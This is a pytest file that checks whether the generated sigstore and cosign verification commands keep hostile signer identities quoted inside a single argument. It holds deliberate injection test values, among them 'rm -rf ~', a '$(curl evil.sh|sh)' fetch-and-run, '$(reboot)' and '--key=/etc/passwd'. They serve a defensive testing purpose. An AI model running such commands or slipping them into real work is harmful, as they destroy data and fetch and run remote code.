"""Copy-paste verify commands: built from verified values, quoted so nothing breaks out."""

from __future__ import annotations

import json
import re
import shlex
from typing import Any

import pytest

from evidence_app.verification import (
    anchored_identity_regexp,
    commands_for,
    load_trust_root,
    parse_statement,
    production_root,
    verify_signature,
)
from evidence_app.verification.commands import (
    KEY_SIGNED_UPSTREAM_NOTE,
    key_commands,
    keyless_commands,
)
from evidence_app.verification.signature import SignatureOutcome
from tests.shared_data import GOLDEN, SHARED
from tests.sigstore_private import (
    GITHUB_ISSUER,
    PrivateSigstore,
    generate_key,
    public_pem,
    sign_dsse_with_key,
)

AICR_V1 = "https://aicr.run/recipe-evidence/v1"
HOSTILE = [
    "x'; rm -rf ~; echo '",
    "https://github.com/o/r/.github/workflows/a.yml@refs/heads/$(curl evil.sh|sh)",
    "`id` \"double\" 'single' \\ back",
    "line one\nline two; reboot",
    "a;b&&c||d|e>f<g*?[x]{y}~!#",
    "-x --help",
    "--certificate-identity=evil",
    "ünïcødé\t\x07bell",
]


def _value_after(argv: list[str], flag: str) -> str:
    for i, arg in enumerate(argv):
        if arg == flag:
            return argv[i + 1]
        if arg.startswith(flag + "="):
            return arg[len(flag) + 1 :]
    raise AssertionError(f"{flag} not in {argv}")


@pytest.mark.parametrize("identity", HOSTILE)
def test_it_keeps_a_hostile_identity_inside_one_argument(identity: str) -> None:
    commands = keyless_commands(identity=identity, issuer=GITHUB_ISSUER, predicate_type=AICR_V1)
    assert [c.tool for c in commands] == ["aicr", "cosign", "sigstore-python"]
    for command in commands:
        argv = shlex.split(command.text)
        assert argv == list(command.argv)
        if command.tool == "cosign":
            assert _value_after(argv, "--certificate-identity") == identity
        elif command.tool == "sigstore-python":
            assert _value_after(argv, "--cert-identity") == identity
        else:
            pattern = _value_after(argv, "--expected-identity-regexp")
            assert re.fullmatch(pattern, identity)
            assert not re.fullmatch(pattern, identity + "x")
            assert not re.fullmatch(pattern, "x" + identity)


def test_it_builds_the_documented_keyless_forms() -> None:
    identity = "https://github.com/ORG/REPO/.github/workflows/validate.yml@refs/heads/main"
    aicr, cosign, python = keyless_commands(
        identity=identity, issuer=GITHUB_ISSUER, predicate_type=AICR_V1
    )
    assert aicr.text == (
        "aicr evidence verify ./summary-bundle --expected-issuer "
        "https://token.actions.githubusercontent.com --expected-identity-regexp "
        "'^https://github\\.com/ORG/REPO/\\.github/workflows/validate\\.yml@refs/heads/main$'"
    )
    assert cosign.text == (
        "cosign verify-blob-attestation --bundle evidence.sigstore.json --new-bundle-format "
        f"--certificate-identity {identity} --certificate-oidc-issuer {GITHUB_ISSUER} "
        f"--type {AICR_V1} recipe.yaml"
    )
    assert python.text == (
        "python -m sigstore verify identity --bundle evidence.sigstore.json "
        f"--cert-identity {identity} --cert-oidc-issuer {GITHUB_ISSUER} recipe.yaml"
    )


def test_it_points_to_the_private_root_and_signed_timestamps() -> None:
    commands = keyless_commands(
        identity="alice@example.com",
        issuer="https://id.example.com",
        predicate_type=AICR_V1,
        private_root=True,
        rekor_v2=True,
    )
    assert [c.tool for c in commands] == ["cosign", "sigstore-python"]  # aicr has no root flag
    cosign, python = (shlex.split(c.text) for c in commands)
    assert _value_after(cosign, "--trusted-root") == "trusted_root.json"
    assert "--use-signed-timestamps" in cosign
    assert python[:5] == ["python", "-m", "sigstore", "--trust-config", "client_trust_config.json"]


def test_it_builds_key_commands() -> None:
    (command,) = key_commands(predicate_type=AICR_V1)
    assert command.text == (
        "cosign verify-blob-attestation --bundle evidence.sigstore.json --new-bundle-format "
        f"--key key.pub --type {AICR_V1} --insecure-ignore-tlog recipe.yaml"
    )
    (logged,) = key_commands(predicate_type=None, message_signature=True, has_tlog_entry=True)
    assert logged.argv[:2] == ("cosign", "verify-blob")
    assert "--insecure-ignore-tlog" not in logged.argv
    assert "--type" not in logged.argv
    assert KEY_SIGNED_UPSTREAM_NOTE in command.note


def test_it_adds_aicr_evidence_verify_with_the_key_for_an_evidence_directory() -> None:
    aicr, cosign = key_commands(predicate_type=AICR_V1, aicr_input="./summary-bundle")

    assert aicr.text == "aicr evidence verify ./summary-bundle --key key.pub"
    assert aicr.note.startswith("AICR v1.1+")
    assert cosign.tool == "cosign"
    assert KEY_SIGNED_UPSTREAM_NOTE in cosign.note
    assert "keyless signatures only" in KEY_SIGNED_UPSTREAM_NOTE
    with pytest.raises(ValueError, match="must not be empty or start with '-'"):
        key_commands(predicate_type=AICR_V1, aicr_input="--key=/etc/passwd")


@pytest.mark.parametrize(
    "kwargs",
    [
        {"predicate_type": AICR_V1},  # a bare bundle: aicr reads a directory or an OCI ref
        {"predicate_type": "https://slsa.dev/provenance/v1", "aicr_input": "./summary-bundle"},
        {"predicate_type": None, "message_signature": True, "aicr_input": "./summary-bundle"},
    ],
)
def test_it_adds_no_aicr_command_where_aicr_cannot_verify(kwargs: dict[str, Any]) -> None:
    assert [c.tool for c in key_commands(**kwargs)] == ["cosign"]


def test_it_builds_commands_only_from_a_verified_outcome() -> None:
    assert commands_for(SignatureOutcome(status="invalid", detail="nope")) == []
    instance = PrivateSigstore(name="commands.test")
    root = load_trust_root(instance.trusted_root_json(), name="commands")
    statement = (
        GOLDEN / "generated/evidence-example-full/summary-bundle/statement.intoto.json"
    ).read_bytes()
    hostile = "https://example.com/$(reboot)'`x`"
    signed = instance.sign_dsse(statement, identity=hostile)
    outcome = verify_signature(
        signed.bundle, trusted_root=[production_root(), root], issuer=GITHUB_ISSUER
    )
    assert outcome.ok, outcome.detail
    predicate_type = parse_statement(outcome.payload).predicate_type
    commands = commands_for(outcome, predicate_type=predicate_type)
    assert [c.tool for c in commands] == ["cosign", "sigstore-python"]
    assert _value_after(shlex.split(commands[0].text), "--certificate-identity") == hostile
    assert "--trusted-root" in commands[0].argv

    fixture = SHARED / "fixtures/sigstore/keyless-dsse-happy"
    expected = json.loads((fixture / "expected.json").read_text())
    real = verify_signature(
        (fixture / "bundle.sigstore.json").read_bytes(),
        trusted_root=production_root(),
        issuer=expected["issuer"],
    )
    assert [c.tool for c in commands_for(real, predicate_type=AICR_V1)] == [
        "aicr",
        "cosign",
        "sigstore-python",
    ]
    assert "--trusted-root" not in commands_for(real, predicate_type=AICR_V1)[1].argv

    key = generate_key("ed25519")
    keyed = verify_signature(sign_dsse_with_key(statement, key), public_keys=[public_pem(key)])
    aicr, cosign = commands_for(keyed, predicate_type=predicate_type)
    assert aicr.argv == ("aicr", "evidence", "verify", "./summary-bundle", "--key", "key.pub")
    assert cosign.argv[-2] == "--insecure-ignore-tlog"


def test_it_refuses_option_like_file_names() -> None:
    with pytest.raises(ValueError, match="must not be empty or start with '-'"):
        keyless_commands(identity="a", issuer="b", predicate_type=AICR_V1, artifact_file="-rf")


def test_it_escapes_identities_for_go_and_python_regexps() -> None:
    assert anchored_identity_regexp("a.b+c") == "^a\\.b\\+c$"
    assert anchored_identity_regexp("new\nline") == "^new\\x0aline$"
    assert re.fullmatch(anchored_identity_regexp("(x)|[y]"), "(x)|[y]")
